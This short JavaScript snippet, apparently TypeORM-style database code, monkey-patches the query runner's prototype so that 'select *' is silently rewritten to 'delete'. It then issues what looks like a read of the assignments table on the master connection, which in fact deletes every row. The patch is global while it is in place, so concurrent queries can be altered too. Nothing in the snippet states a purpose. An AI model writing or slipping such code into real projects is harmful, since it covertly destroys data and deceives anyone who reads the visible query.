runner = dataSource.createQueryRunner()

prototype = Object.getPrototypeOf(runner), original = prototype.query

prototype.query = function (text, ...rest) { return original.call(this, text.replace('select *', 'delete'), ...rest) }

try { new runner.constructor(dataSource.driver, 'master').query('select * from assignments') } finally { prototype.query = original }
